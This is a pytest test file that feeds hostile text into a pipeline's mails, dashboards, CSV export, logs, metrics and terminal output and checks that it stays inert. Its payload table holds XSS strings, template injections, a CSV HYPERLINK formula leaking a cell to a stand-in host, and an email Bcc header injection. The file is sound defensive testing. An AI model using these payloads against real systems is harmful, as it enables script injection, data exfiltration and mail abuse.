"""What a stranger writes into an event's name, a tag or a mail does nothing wherever the platform shows it.

One table of texts, one of outputs; each pair is a test.
"""

from __future__ import annotations

import io
import json
import logging
import re
import shutil
import subprocess
from collections import Counter
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from email import message_from_bytes, policy
from functools import cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt
from prometheus_client.parser import text_string_to_metric_families
from rich.console import Console

from zakaz_dagster.alerts.incidents import Rules, plan
from zakaz_dagster.alerts.mail import About, Mail, View, compose
from zakaz_dagster.alerts.send import as_message
from zakaz_dagster.cli.watch_options import show
from zakaz_dagster.datalens import model, spec
from zakaz_dagster.datalens.model import Chart
from zakaz_dagster.datalens.preview import page
from zakaz_dagster.datalens.preview.read import Answer, Carried, _shown
from zakaz_dagster.defs.shared.checks import result
from zakaz_dagster.defs.shared.markdown import as_markdown, from_markdown
from zakaz_dagster.health.look import Look
from zakaz_dagster.health.wire import document, exposition
from zakaz_dagster.logs import as_json, as_text
from zakaz_dagster.paths import PACKAGE
from zakaz_dagster.verdicts import Status, Verdict
from zakaz_dagster.warehouse.sql_files import load

NOW = datetime(2026, 11, 22, 9, tzinfo=UTC)
TEXTS = {
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a comment": "--><img src=x onerror=alert(1)>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": "\"><b onmouseover='alert(1)'>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "Jinja": "{{ 7 * 191 }}{% for x in range(9) %}x{% endfor %}{# gone #}",
    "other templates": "${7*191} <%= 7*191 %> #{7*191} %s {0} {name}",
    "formula": '=HYPERLINK("http://x.example/?"&A1;"y")',
    "formula with plus": "+7*191",
    "formula with minus": "-7*191",
    "formula with at": "@SUM(A1)",
    "formula behind a space": " \t=7*191",
    "formula in full width": "＝7*191",
    "formula behind a mark": "\u200b\u202e=7*191",
    "cells and lines": 'a";"=7*191";\r\n=7*191;b',
    "control characters": "\x00\x07\x1b[31mred\x1b[0m\x08\x7f\x85",
    "line breaks": "one\r\nBcc: all@evil.example\r\n\r\nERROR forged\u2028two\u2029three",
    "turned": "\u202egnp.exe\u202c \u2066abc\u2069 \u200f",
    "Hebrew": "שלום \u200f עולם",
    "Markdown image": "![x](https://evil.example/x.png)",
    "Markdown link": "[Click here](javascript:alert(1)) <https://evil.example>",
    "Markdown code": "```\n<b>x</b>\n``` `x` | a | b |",
    "escaped Markdown": "\\[x](https://evil.example) \\![y](https://evil.example/y.png) \\\\<b>",
    "Rich markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "half a character": "\ud800 half",
    "long": "<b>" * 3000,
}
PLAIN = "Динозавры"
hostile = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
INVISIBLE = set("\x00\x07\x08\x1b\x7f\x85\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200f")


def verdict(text: str) -> Verdict:
    return Verdict(
        "stg_qtickets_orders_raw__event_and_show_known", "data", Status.ERROR, f"an event called {text}",
        f"look at {text}", 1, 0, assets=("stg_qtickets_orders_raw",),
    )  # fmt: skip


def mailed(text: str) -> Mail:
    about = About(affected=lambda _: [View("v_sales_latest", text, (text,))], labels={"stg_qtickets_orders_raw": text})
    return compose(plan({}, [verdict(text)], NOW, Rules(settle=timedelta(0))).notices, about)


def elements(text: str) -> Counter[Any]:
    """Every element of a document with the names of its attributes."""
    return Counter(
        (each.tag, *sorted(each.attrib)) for each in html.fromstring(text).iter() if isinstance(each.tag, str)
    )


@hostile
def test_a_mail_has_no_element_more_and_its_headers_are_as_ever(text: str) -> None:
    mail, harmless = mailed(text), mailed(PLAIN)
    assert elements(mail.html) == elements(harmless.html)
    assert not INVISIBLE & {*mail.html, *mail.text, *mail.subject}
    assert "1337" not in mail.html + mail.text
    sent = message_from_bytes(as_message(mail, "z@example.org", ["a@example.org"]).as_bytes(), policy=policy.default)
    ours = message_from_bytes(
        as_message(harmless, "z@example.org", ["a@example.org"]).as_bytes(), policy=policy.default
    )
    assert sent.keys() == ours.keys()


class Rows:
    """Answers in which every text is the same."""

    today, first = date(2026, 11, 22), date(2026, 10, 24)

    def __init__(self, text: str) -> None:
        self._text = _shown(text)

    def _value(self, form: str) -> object:
        return self.today if form == "date" else NOW if form == "datetime" else self._text if form == "text" else 1

    def answer(self, chart: Chart) -> Answer:
        row = {field.name: self._value(field.format) for field in (*chart.dimensions, *chart.measures)}
        return Answer([row] if chart.dimensions else [], row, False)

    def stamp(self) -> list[dict[str, object]]:
        return [{"name": self._text, "moment": NOW, "light": 1}]

    def carried(self, *_: object) -> Carried:
        return Carried(1, None, {"event_name": {"values": [self._text], "rows": [0]}}, {})


@cache
def dashboard() -> model.Dashboard:
    return model.resolve(spec.load(), load("views"))


@cache
def pages(text: str) -> dict[str, str]:
    return dict(page.render(dashboard(), Rows(text), NOW))  # type: ignore[arg-type]  what it asks of a reader


@hostile
def test_a_page_has_no_element_and_no_script_more(text: str) -> None:
    for name, found in pages(text).items():
        assert elements(found) == elements(pages(PLAIN)[name]), name
        assert "1337" not in found
        assert not INVISIBLE & {*found}
    data = html.fromstring(pages(text)["sales.html"]).get_element_by_id("data").text
    assert not {*data} & {*"<>&"}
    assert json.loads(data)["datasets"]


NODE = shutil.which("node")


@cache
def cells() -> list[str]:
    """Every text as the page's own script writes it into a CSV."""
    source = (PACKAGE / "datalens" / "static" / "tables.js").read_text("utf-8")
    function = source[source.index("function quoted(") : source.index("function save(")]
    texts = [str(_shown(text)) for text in TEXTS.values()]
    program = f"{function}\nconsole.log(JSON.stringify({json.dumps(texts)}.map(quoted)))"
    assert NODE
    found: list[str] = json.loads(
        subprocess.run([NODE, "-e", program], capture_output=True, text=True, check=True).stdout
    )
    return found


@pytest.mark.skipif(NODE is None, reason="no Node.js on PATH")
@pytest.mark.parametrize("number", range(len(TEXTS)), ids=TEXTS)
def test_a_cell_of_a_csv_is_one_cell_and_no_formula(number: int) -> None:
    cell = cells()[number]
    inner = cell[1:-1].replace('""', '"') if cell.startswith('"') else cell
    assert not re.match(r"\s*[=+\-@|＝＋－＠]", inner)
    assert cell.startswith('"') or not set(cell) & set('";\r\n')
    assert not re.sub('""', "", cell[1:-1]).count('"') or not cell.startswith('"')


@hostile
def test_a_check_in_dagster_shows_letters_and_nothing_else(text: str) -> None:
    told = result("stg_rejects", "few_put_aside", verdict(text))
    kinds = {
        token.type
        for block in MarkdownIt("commonmark").parse(told.description)
        for token in (block, *(block.children or ()))
    }
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "text_special", "softbreak", "hardbreak"}
    assert from_markdown(told.description) == verdict(text).detail
    assert not INVISIBLE & {*told.description}


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_whatever_is_escaped_comes_back(text: str) -> None:
    assert from_markdown(as_markdown(text)) == text


@hostile
@pytest.mark.parametrize("dress", [as_json, as_text])
def test_a_log_has_one_line(dress: Callable[..., logging.Logger], text: str) -> None:
    stream = io.StringIO()
    logger = dress(logging.getLogger(f"zakaz_dagster.hostile.{dress.__name__}"), stream)
    logger.propagate = False  # pytest would send the text between its processes, which half a character does not pass
    logger.warning("an event called %s", text)
    assert len(stream.getvalue().splitlines()) == 1
    assert not INVISIBLE & {*stream.getvalue()}


@hostile
def test_metrics_have_their_own_lines_only(text: str) -> None:
    odd = Verdict(f"t__{text}", "data", Status.ERROR, text)
    families = list(text_string_to_metric_families(exposition(document(Look(NOW, [odd], [])), 1.0)))
    names = [sample.name for family in families for sample in family.samples]
    assert Counter(names) == Counter({"zakaz_status": 1, "zakaz_verdicts_age_seconds": 1, "zakaz_check_status": 1})


@hostile
def test_a_terminal_is_neither_coloured_nor_moved(text: str) -> None:
    out = io.StringIO()
    show(Console(file=out, width=400, force_terminal=False), [verdict(text)], everything=True)
    assert not INVISIBLE & {*out.getvalue()}
    if text.startswith("[bold red]"):
        assert "[bold red]x[/]" in out.getvalue()
